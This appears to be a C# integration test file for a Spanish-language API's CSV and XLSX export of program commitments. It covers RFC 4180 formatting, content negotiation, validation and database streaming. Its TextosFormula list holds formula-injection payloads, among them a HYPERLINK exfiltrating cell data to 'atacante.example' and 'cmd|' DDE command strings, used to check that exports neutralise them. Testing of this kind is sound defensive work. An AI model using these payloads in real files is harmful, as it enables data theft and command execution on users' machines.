using System.Data.Common;
using System.Globalization;
using System.IO.Compression;
using System.Net;
using System.Net.Http.Headers;
using System.Text;
using System.Text.Json.Nodes;
using System.Text.RegularExpressions;
using System.Xml.Linq;
using CompromisosApi.Features.Compromisos;
using CompromisosApi.IntegrationTests.Infrastructure;
using CompromisosApi.Persistence;
using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Validation;
using Microsoft.AspNetCore.TestHost;
using Microsoft.EntityFrameworkCore;
using Microsoft.EntityFrameworkCore.Diagnostics;
using Microsoft.Extensions.DependencyInjection;
using Npgsql;

namespace CompromisosApi.IntegrationTests;

/// <summary>GET /compromisos as CSV and XLSX: the same rows as the JSON pages, every one of them, streamed.</summary>
public sealed partial class ExportacionTests(ApiFactory factory) : PruebaApi(factory)
{
    private const string Xlsx = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";

    private static readonly string[] Encabezados =
    [
        "id", "programaId", "programa", "servicio", "ministerio", "anioEvaluacion", "recomendacion", "numero", "texto",
        "fechaVencimiento", "calificacion", "fechaCalificacion", "vencido", "tipo", "prioritario",
    ];

    /// <summary>Texts that break naive CSV or XML writers, kept verbatim by the record.</summary>
    private static readonly string[] TextosDificiles =
    [
        "Elaborar matriz de marco lógico, revisada y \"concordada\" con DIPRES.",
        "Primera línea\r\nsegunda línea\ny una tercera con ñandú, pingüino y acción",
        "=SUMA(A1:A9) parece una fórmula; <etiqueta> & \"comillas\"",
        "Tabulador\taquí, _x0041_ literal y un control \u0001 al final\r",
        "\"Entre comillas\"",
        "Focalización: sin nada especial",
    ];

    private sealed record Registro(int Agricultura, int Educacion, Dictionary<int, string[]> Contexto);

    /// <summary>
    /// Two ministerios, three programas; per compromiso, the columns the JSON does not carry (programa, servicio,
    /// ministerio, año, número de recomendación), as the test knows them.
    /// </summary>
    private async Task<Registro> RegistroAsync()
    {
        var contexto = new Dictionary<int, string[]>();
        var agricultura = (int)(await Escenario.CrearAsync("/api/v1/ministerios", new { nombre = "Ministerio de Agricultura" }))["id"]!;
        var educacion = (int)(await Escenario.CrearAsync("/api/v1/ministerios", new { nombre = "Ministerio de Educación" }))["id"]!;
        var indap = (int)(await Escenario.CrearAsync("/api/v1/servicios", new { nombre = "Instituto de Desarrollo Agropecuario", ministerioId = agricultura }))["id"]!;
        var junaeb = (int)(await Escenario.CrearAsync("/api/v1/servicios", new { nombre = "Junta Nacional de Auxilio Escolar y Becas", ministerioId = educacion }))["id"]!;

        async Task ProgramaAsync(int servicio, string servicioNombre, string ministerio, string nombre, int anio, string[] textos, string[] vencimientos)
        {
            var p = (int)(await Escenario.CrearAsync("/api/v1/programas", new { nombre, servicioId = servicio, anioEvaluacion = anio, lineaEvaluacion = "EPG" }))["id"]!;
            for (var i = 0; i < textos.Length; i++)
            {
                var numeroRec = i / 2 + 1;
                if (i % 2 == 0) await Escenario.RecomendacionAsync(p, $"Recomendación {numeroRec} sobre focalización");
                var recs = (await Escenario.LeerAsync($"/api/v1/programas/{p}/recomendaciones"))["items"]!.AsArray();
                var rec = (int)recs[numeroRec - 1]!["id"]!;
                var c = (int)(await Escenario.CompromisoAsync(rec, vencimientos[i], textos[i]))["id"]!;
                contexto[c] = [p.ToString(CultureInfo.InvariantCulture), nombre, servicioNombre, ministerio, anio.ToString(CultureInfo.InvariantCulture),
                    numeroRec.ToString(CultureInfo.InvariantCulture)];
            }
        }

        await ProgramaAsync(indap, "Instituto de Desarrollo Agropecuario", "Ministerio de Agricultura", "Redes Pro Rubro, \"MYPIME\"", 2007,
            TextosDificiles[..4], ["2009-12", "2010-06", "2012-12", "2099-12"]);
        await ProgramaAsync(indap, "Instituto de Desarrollo Agropecuario", "Ministerio de Agricultura", "Programa de Riego", 2008,
            TextosDificiles[4..], ["2011-06", "2013-12"]);
        await ProgramaAsync(junaeb, "Junta Nacional de Auxilio Escolar y Becas", "Ministerio de Educación", "Programa de Alimentación Escolar", 2008,
            ["Mejorar la focalización de la alimentación.", "Medir la satisfacción."], ["2010-12", "2014-06"]);

        var ids = contexto.Keys.Order().ToList();
        await Escenario.CalificarOkAsync(ids[0], "Cumplido", "2009-12-31");
        await Escenario.CalificarOkAsync(ids[1], "Cancelado", "2011-12-31", "Se descontinuó.");
        await Escenario.CalificarOkAsync(ids[4], "NoCumplido", "2012-06-30");
        await Escenario.CrearAsync($"/api/v1/compromisos/{ids[5]}/reportes", new { corte = "2013-12-31", texto = "Se capacitó a la focalización." });
        return new Registro(agricultura, educacion, contexto);
    }

    /// <summary>The JSON list, every page (limit 2, to cross pages), as the export's rows.</summary>
    private async Task<List<string[]>> JsonAsync(string filtros, Registro registro)
    {
        var filas = new List<string[]>();
        string? cursor = null;
        do
        {
            var pagina = await Escenario.LeerAsync($"/api/v1/compromisos?limit=2&{filtros}" + (cursor is null ? "" : "&cursor=" + cursor));
            foreach (var c in pagina["items"]!.AsArray())
            {
                var id = (int)c!["id"]!;
                var ctx = registro.Contexto[id];
                Assert.Equal(ctx[0], c["programaId"]!.ToString());
                filas.Add([id.ToString(CultureInfo.InvariantCulture), ctx[0], ctx[1], ctx[2], ctx[3], ctx[4], ctx[5],
                    (string)c["numero"]!, (string)c["texto"]!, (string)c["fechaVencimiento"]!, (string)c["calificacion"]!,
                    (string?)c["fechaCalificacion"] ?? "", (bool)c["vencido"]! ? "true" : "false",
                    (string?)c["tipo"] ?? "", (bool)c["prioritario"]! ? "true" : "false"]);
            }

            cursor = (string?)pagina["nextCursor"];
        }
        while (cursor is not null);

        return filas;
    }

    private async Task<(HttpResponseMessage Respuesta, byte[] Cuerpo)> DescargarAsync(string ruta, string? accept = null)
    {
        using var pedido = new HttpRequestMessage(HttpMethod.Get, ruta);
        if (accept is not null) pedido.Headers.Accept.ParseAdd(accept);
        var r = await Cliente.SendAsync(pedido);
        await Escenario.Esperar(r, HttpStatusCode.OK);
        return (r, await r.Content.ReadAsByteArrayAsync());
    }

    private static readonly string[] Filtros =
    [
        "",
        "vencidos=true&alCorte=2013-12-31",
        "vencidos=false&alCorte=2013-12-31",
        "calificacion=Pendiente&venceDesde=2010-01",
        "q=focalizacion",
        "q=focalizacion&alCorte=2011-01-01",
    ];

    /// <summary>One record, every filter (alone and with a ministerio), both formats: the same rows as the JSON pages.</summary>
    [Fact]
    public async Task El_CSV_y_el_XLSX_tienen_las_mismas_filas_que_el_JSON_con_los_mismos_filtros()
    {
        var registro = await RegistroAsync();
        foreach (var consulta in Filtros.SelectMany(f => new[] { f, $"{f}&ministerioId={registro.Agricultura}" }))
        {
            var esperado = await JsonAsync(consulta, registro);
            Assert.NotEmpty(esperado);

            var (csv, cuerpoCsv) = await DescargarAsync($"/api/v1/compromisos?formato=csv&{consulta}");
            Assert.Equal("text/csv", csv.Content.Headers.ContentType!.MediaType);
            Assert.Equal("utf-8", csv.Content.Headers.ContentType.CharSet);
            // The one text of the record that starts like a formula goes out neutralised in the CSV only.
            var esperadoCsv = esperado.Select(f => f.Select(v => v.StartsWith('=') ? "'" + v : v).ToArray()).ToList();
            IgualesA(esperadoCsv, LeerCsv(cuerpoCsv), $"csv, {consulta}");

            var (xlsx, cuerpoXlsx) = await DescargarAsync($"/api/v1/compromisos?{consulta}", Xlsx);
            Assert.Equal(Xlsx, xlsx.Content.Headers.ContentType!.MediaType);
            IgualesA(esperado, LeerXlsx(cuerpoXlsx), $"xlsx, {consulta}");
        }

        AfirmarSpreadsheetMLValido((await DescargarAsync("/api/v1/compromisos?formato=xlsx")).Cuerpo);
    }

    private static void IgualesA(List<string[]> esperado, List<string[]> archivo, string caso)
    {
        Assert.True(Encabezados.SequenceEqual(archivo[0]), $"{caso}: encabezados {string.Join(",", archivo[0])}");
        Assert.True(esperado.Count == archivo.Count - 1, $"{caso}: {archivo.Count - 1} filas, se esperaban {esperado.Count}");
        for (var i = 0; i < esperado.Count; i++)
        {
            Assert.True(esperado[i].SequenceEqual(archivo[i + 1]),
                $"{caso}, fila {i + 1}:\n  esperada {string.Join(" | ", esperado[i])}\n  archivo  {string.Join(" | ", archivo[i + 1])}");
        }
    }

    [Fact]
    public async Task El_CSV_sigue_RFC_4180_con_BOM_y_se_descarga_como_adjunto()
    {
        var registro = await RegistroAsync();
        var (r, cuerpo) = await DescargarAsync("/api/v1/compromisos?formato=csv");

        Assert.Equal([0xEF, 0xBB, 0xBF], cuerpo[..3]);
        var texto = Encoding.UTF8.GetString(cuerpo, 3, cuerpo.Length - 3);
        Assert.StartsWith(string.Join(',', Encabezados) + "\r\n", texto, StringComparison.Ordinal);
        Assert.EndsWith("\r\n", texto, StringComparison.Ordinal);
        Assert.Contains("\"Elaborar matriz de marco lógico, revisada y \"\"concordada\"\" con DIPRES.\"", texto, StringComparison.Ordinal);
        Assert.Contains("\"Primera línea\r\nsegunda línea\ny una tercera con ñandú, pingüino y acción\"", texto, StringComparison.Ordinal);
        Assert.Contains(",Focalización: sin nada especial,", texto, StringComparison.Ordinal);
        Assert.Equal(registro.Contexto.Count + 1, LeerCsv(cuerpo).Count);

        var disposicion = r.Content.Headers.ContentDisposition!;
        Assert.Equal("attachment", disposicion.DispositionType);
        Assert.Matches("^compromisos-[0-9]{4}-[0-9]{2}-[0-9]{2}\\.csv$", disposicion.FileName!.Trim('"'));
        Assert.Contains("Accept", r.Headers.Vary);
    }

    /// <summary>The formula-injection texts OWASP lists, through the API: verbatim in JSON and XLSX, inert in the CSV.</summary>
    private static readonly string[] TextosFormula =
    [
        "=HYPERLINK(\"http://atacante.example/?d=\"&A1,\"Ver\")",
        "+56 9 1234 5678",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "   =1+1",
        "Texto; =HYPERLINK(\"http://atacante.example\")",
    ];

    [Fact]
    public async Task Una_formula_en_un_texto_no_llega_viva_a_la_planilla()
    {
        var (p, r, _) = await Escenario.CompromisoPendienteAsync();
        foreach (var texto in TextosFormula) await Escenario.CompromisoAsync(r, "2010-12", texto);

        var json = (await Escenario.LeerAsync($"/api/v1/compromisos?programaId={p}&limit=200"))["items"]!.AsArray()
            .Skip(1).Select(c => (string)c!["texto"]!).ToList();
        Assert.Equal(TextosFormula, json);

        var csv = LeerCsv((await DescargarAsync($"/api/v1/compromisos?formato=csv&programaId={p}")).Cuerpo).Skip(2).Select(f => f[8]).ToList();
        Assert.Equal(TextosFormula[..^1].Select(t => "'" + t).Append(TextosFormula[^1]), csv);
        // The semicolon is inside a quoted field, so a spreadsheet that splits on ';' can't start a cell at "=HYPERLINK".
        var crudo = Encoding.UTF8.GetString((await DescargarAsync($"/api/v1/compromisos?formato=csv&programaId={p}")).Cuerpo);
        Assert.Contains(",\"Texto; =HYPERLINK(\"\"http://atacante.example\"\")\",", crudo, StringComparison.Ordinal);

        var xlsx = (await DescargarAsync($"/api/v1/compromisos?formato=xlsx&programaId={p}")).Cuerpo;
        Assert.Equal(TextosFormula, LeerXlsx(xlsx).Skip(2).Select(f => f[8]));
        using var zip = new ZipArchive(new MemoryStream(xlsx), ZipArchiveMode.Read);
        using var hoja = new StreamReader(zip.GetEntry("xl/worksheets/sheet1.xml")!.Open());
        var xml = XDocument.Parse(await hoja.ReadToEndAsync());
        XNamespace ns = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
        Assert.Empty(xml.Descendants(ns + "f"));
        Assert.All(xml.Descendants(ns + "c").Where(c => ((string)c.Attribute("r")!).StartsWith('I')),
            c => Assert.Equal("inlineStr", (string?)c.Attribute("t")));
    }

    [Theory]
    [InlineData("text/csv", "text/csv")]
    [InlineData("application/json;q=0.5, text/csv", "text/csv")]
    [InlineData("text/csv;q=0.2, " + Xlsx, Xlsx)]
    [InlineData("text/csv;q=0.5, application/json", "application/json")]
    [InlineData("*/*", "application/json")]
    [InlineData("text/html, application/xhtml+xml, */*;q=0.8", "application/json")]
    [InlineData("text/csv;q=0", "application/json")]
    public async Task Accept_elige_el_formato(string accept, string esperado)
    {
        await Escenario.CompromisoPendienteAsync();
        var (r, _) = await DescargarAsync("/api/v1/compromisos", accept);
        Assert.Equal(esperado, r.Content.Headers.ContentType!.MediaType);
    }

    [Fact]
    public async Task Cada_formato_tiene_su_operacion_con_los_mismos_filtros()
    {
        var (_, recomendacion, _) = await Escenario.CompromisoPendienteAsync();
        await Escenario.CompromisoAsync(recomendacion, "2010-06");
        var (csv, cuerpoCsv) = await DescargarAsync("/api/v1/compromisos/csv?venceHasta=2009-12", "application/octet-stream");
        Assert.Equal("text/csv", csv.Content.Headers.ContentType!.MediaType);
        Assert.Equal(cuerpoCsv, (await DescargarAsync("/api/v1/compromisos?formato=csv&venceHasta=2009-12")).Cuerpo);
        Assert.Matches("^compromisos-[0-9]{4}-[0-9]{2}-[0-9]{2}\\.csv$", csv.Content.Headers.ContentDisposition!.FileName!.Trim('"'));
        var (xlsx, cuerpoXlsx) = await DescargarAsync("/api/v1/compromisos/xlsx");
        Assert.Equal(Xlsx, xlsx.Content.Headers.ContentType!.MediaType);
        Assert.Equal(3, LeerXlsx(cuerpoXlsx).Count);
        await Problemas.Validacion(await Cliente.GetAsync("/api/v1/compromisos/csv?venceDesde=2009-13"), "venceDesde");
    }

    [Fact]
    public async Task formato_prevalece_sobre_Accept()
    {
        await Escenario.CompromisoPendienteAsync();
        Assert.Equal("text/csv", (await DescargarAsync("/api/v1/compromisos?formato=csv", "application/json")).Respuesta.Content.Headers.ContentType!.MediaType);
        Assert.Equal(Xlsx, (await DescargarAsync("/api/v1/compromisos?formato=xlsx", "text/csv")).Respuesta.Content.Headers.ContentType!.MediaType);
        Assert.Equal("application/json", (await DescargarAsync("/api/v1/compromisos?formato=json", "text/csv")).Respuesta.Content.Headers.ContentType!.MediaType);
        var (r, cuerpo) = await DescargarAsync("/api/v1/compromisos?formato=xlsx");
        Assert.Matches("^compromisos-[0-9]{4}-[0-9]{2}-[0-9]{2}\\.xlsx$", r.Content.Headers.ContentDisposition!.FileName!.Trim('"'));
        Assert.Equal(2, LeerXlsx(cuerpo).Count);
    }

    [Fact]
    public async Task Sin_filas_el_archivo_solo_trae_encabezados()
    {
        var (_, csv) = await DescargarAsync("/api/v1/compromisos?formato=csv");
        Assert.Equal([Encabezados], LeerCsv(csv));
        var (_, xlsx) = await DescargarAsync("/api/v1/compromisos?formato=xlsx");
        Assert.Equal([Encabezados], LeerXlsx(xlsx));
        AfirmarSpreadsheetMLValido(xlsx);
    }

    [Fact]
    public async Task Exportaciones_con_entrada_invalida_responden_problem_json()
    {
        await Escenario.CompromisoPendienteAsync();
        await Problemas.Validacion(await Cliente.GetAsync("/api/v1/compromisos?formato=pdf"), "formato");
        await Problemas.Validacion(await Cliente.GetAsync("/api/v1/compromisos?formato=CSV"), "formato");
        await Problemas.Validacion(await Cliente.GetAsync("/api/v1/compromisos?formato=csv&limit=10"), "limit");
        await Problemas.Validacion(await Cliente.GetAsync("/api/v1/compromisos?formato=xlsx&cursor=djE6MQ"), "cursor");
        await Problemas.Validacion(await Cliente.GetAsync("/api/v1/compromisos/csv?limit=5"), "limit");
        await Problemas.Validacion(await Cliente.GetAsync("/api/v1/compromisos/xlsx?cursor=djE6MQ"), "cursor");
        await Problemas.Validacion(await Cliente.GetAsync("/api/v1/compromisos?formato=csv&venceDesde=2009-13"), "venceDesde");
        await Problemas.Validacion(await Cliente.GetAsync("/api/v1/compromisos?formato=csv&q=%20"), "q");
        using var pedido = new HttpRequestMessage(HttpMethod.Get, "/api/v1/compromisos?limit=5");
        pedido.Headers.Accept.ParseAdd("text/csv");
        await Problemas.Validacion(await Cliente.SendAsync(pedido), "limit");
    }

    /// <summary>
    /// 5,000 compromisos, inserted straight into PostgreSQL. By the time the first bytes of each file reach the client,
    /// the export's query has been read to its end and its connection released: a slow reader can't hold the database
    /// (issue 12). The query did run (once per file), and the file is whole.
    /// </summary>
    [Fact]
    public async Task Exportar_miles_de_filas_suelta_la_base_de_datos_antes_de_enviar()
    {
        await InsertarMasivoAsync(programas: 500, porPrograma: 10);
        var lector = new LectorDeExportacion();
        await using var fabrica = Factory.WithWebHostBuilder(b => b.ConfigureTestServices(s =>
            s.ConfigureDbContext<CompromisosDbContext>((_, o) => o.AddInterceptors(lector))));
        using var cliente = fabrica.CreateClient();

        foreach (var formato in new[] { "csv", "xlsx" })
        {
            lector.Reiniciar();
            using var r = await cliente.GetAsync($"/api/v1/compromisos?formato={formato}", HttpCompletionOption.ResponseHeadersRead);
            Assert.Equal(HttpStatusCode.OK, r.StatusCode);
            await using var flujo = await r.Content.ReadAsStreamAsync();
            var inicio = new byte[1024];
            await flujo.ReadExactlyAsync(inicio);

            Assert.Equal(1, lector.Lecturas);
            Assert.False(lector.Abierto, $"{formato}: la consulta de la exportación debería haberse leído entera antes del primer byte");

            var resto = new MemoryStream();
            resto.Write(inicio);
            await flujo.CopyToAsync(resto);
            var filas = formato == "csv" ? LeerCsv(resto.ToArray()) : LeerXlsx(resto.ToArray());
            Assert.Equal(5_001, filas.Count);
        }
    }

    private async Task InsertarMasivoAsync(int programas, int porPrograma)
    {
        await using var conexion = new NpgsqlConnection(Factory.ConnectionString);
        await conexion.OpenAsync();
        await using var comando = new NpgsqlCommand($"""
            INSERT INTO ministerios (nombre) VALUES ('Ministerio masivo');
            INSERT INTO servicios (nombre, ministerio_id) SELECT 'Servicio masivo', id FROM ministerios;
            INSERT INTO programas (nombre, servicio_id, anio_evaluacion, linea_evaluacion, estado)
                SELECT 'Programa masivo ' || g, s.id, 2010, 'EPG', 'EnSeguimiento' FROM servicios s, generate_series(1, {programas}) g;
            INSERT INTO recomendaciones (programa_id, numero, texto) SELECT p.id, 1, 'Recomendación del ' || p.nombre FROM programas p;
            -- Varied texts, so that the compressed xlsx is large too.
            INSERT INTO compromisos (recomendacion_id, programa_id, secuencia, numero, texto, fecha_vencimiento, calificacion)
                SELECT r.id, r.programa_id, g, '1.' || g, 'Compromiso ' || md5(r.id || '-' || g) || ', "con comillas", ' || md5(g || '-' || r.id),
                       DATE '2012-12-01', 'Pendiente'
                  FROM recomendaciones r, generate_series(1, {porPrograma}) g;
            """, conexion);
        await comando.ExecuteNonQueryAsync();
    }

    /// <summary>Tells whether the export's data reader (its SQL carries the export's tag) is open.</summary>
    private sealed class LectorDeExportacion : DbCommandInterceptor
    {
        private volatile bool _abierto;
        private int _lecturas;

        public bool Abierto => _abierto;

        public int Lecturas => Volatile.Read(ref _lecturas);

        public void Reiniciar()
        {
            _abierto = false;
            Volatile.Write(ref _lecturas, 0);
        }

        private static bool EsExportacion(DbCommand c) => c.CommandText.Contains(ExportarCompromisosHandler.Etiqueta, StringComparison.Ordinal);

        public override ValueTask<DbDataReader> ReaderExecutedAsync(DbCommand command, CommandExecutedEventData eventData, DbDataReader result, CancellationToken cancellationToken = default)
        {
            if (EsExportacion(command))
            {
                _abierto = true;
                Interlocked.Increment(ref _lecturas);
            }

            return ValueTask.FromResult(result);
        }

        public override InterceptionResult DataReaderClosing(DbCommand command, DataReaderClosingEventData eventData, InterceptionResult result)
        {
            if (EsExportacion(command)) _abierto = false;
            return result;
        }

        public override ValueTask<InterceptionResult> DataReaderClosingAsync(DbCommand command, DataReaderClosingEventData eventData, InterceptionResult result)
        {
            if (EsExportacion(command)) _abierto = false;
            return ValueTask.FromResult(result);
        }

        public override InterceptionResult DataReaderDisposing(DbCommand command, DataReaderDisposingEventData eventData, InterceptionResult result)
        {
            if (EsExportacion(command)) _abierto = false;
            return result;
        }
    }

    /// <summary>A strict RFC 4180 reader: a UTF-8 BOM, CRLF after every record, quoted fields with doubled quotes.</summary>
    private static List<string[]> LeerCsv(byte[] bytes)
    {
        Assert.Equal([0xEF, 0xBB, 0xBF], bytes[..3]);
        var texto = new UTF8Encoding(false, throwOnInvalidBytes: true).GetString(bytes, 3, bytes.Length - 3);
        var filas = new List<string[]>();
        var fila = new List<string>();
        var campo = new StringBuilder();
        var citado = false;
        for (var i = 0; i < texto.Length; i++)
        {
            var c = texto[i];
            if (citado)
            {
                if (c != '"') campo.Append(c);
                else if (i + 1 < texto.Length && texto[i + 1] == '"') campo.Append(texto[++i]);
                else citado = false;
                continue;
            }

            switch (c)
            {
                case '"':
                    Assert.True(campo.Length == 0, $"Comilla en medio de un campo sin comillas, posición {i}");
                    citado = true;
                    break;
                case ',':
                    fila.Add(campo.ToString());
                    campo.Clear();
                    break;
                case '\r':
                    Assert.True(i + 1 < texto.Length && texto[i + 1] == '\n', $"CR sin LF fuera de comillas, posición {i}");
                    fila.Add(campo.ToString());
                    campo.Clear();
                    filas.Add([.. fila]);
                    fila.Clear();
                    i++;
                    break;
                case '\n':
                    Assert.Fail($"LF sin CR fuera de comillas, posición {i}");
                    break;
                default:
                    campo.Append(c);
                    break;
            }
        }

        Assert.False(citado, "El archivo termina dentro de un campo entre comillas");
        Assert.True(fila.Count == 0 && campo.Length == 0, "El último registro no termina en CRLF");
        Assert.All(filas, f => Assert.Equal(filas[0].Length, f.Length));
        return filas;
    }

    /// <summary>Reads the sheet's cells back, by their references, as the texts the CSV would carry.</summary>
    private static List<string[]> LeerXlsx(byte[] bytes)
    {
        using var zip = new ZipArchive(new MemoryStream(bytes), ZipArchiveMode.Read);
        XNamespace ns = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
        using var hoja = zip.GetEntry("xl/worksheets/sheet1.xml")!.Open();
        var xml = XDocument.Load(hoja, LoadOptions.PreserveWhitespace);
        var filas = new List<string[]>();
        foreach (var fila in xml.Descendants(ns + "row"))
        {
            Assert.Equal(filas.Count + 1, (int)fila.Attribute("r")!);
            var celdas = new string[Encabezados.Length];
            Array.Fill(celdas, "");
            foreach (var c in fila.Elements(ns + "c"))
            {
                var referencia = (string)c.Attribute("r")!;
                Assert.EndsWith((filas.Count + 1).ToString(CultureInfo.InvariantCulture), referencia, StringComparison.Ordinal);
                var columna = referencia[0] - 'A';
                celdas[columna] = (string?)c.Attribute("t") switch
                {
                    "inlineStr" => Desescapar(c.Element(ns + "is")!.Element(ns + "t")!.Value),
                    "b" => c.Element(ns + "v")!.Value == "1" ? "true" : "false",
                    null => c.Element(ns + "v")!.Value,
                    var t => throw new Xunit.Sdk.XunitException($"Tipo de celda inesperado: {t}"),
                };
            }

            filas.Add(celdas);
        }

        return filas;
    }

    /// <summary>SpreadsheetML's _xHHHH_ escapes, as Excel reads them.</summary>
    private static string Desescapar(string texto) =>
        EscapeXlsx().Replace(texto, m => ((char)int.Parse(m.Groups[1].Value, NumberStyles.HexNumber, CultureInfo.InvariantCulture)).ToString());

    [GeneratedRegex("_x([0-9A-Fa-f]{4})_")]
    private static partial Regex EscapeXlsx();

    private static void AfirmarSpreadsheetMLValido(byte[] bytes)
    {
        using var documento = SpreadsheetDocument.Open(new MemoryStream(bytes), false);
        var errores = new OpenXmlValidator().Validate(documento).Select(e => $"{e.Path?.XPath}: {e.Description}").ToList();
        Assert.True(errores.Count == 0, string.Join("\n", errores));
        Assert.Equal("compromisos", documento.WorkbookPart!.Workbook.Sheets!.Elements<DocumentFormat.OpenXml.Spreadsheet.Sheet>().Single().Name!.Value);
    }
}
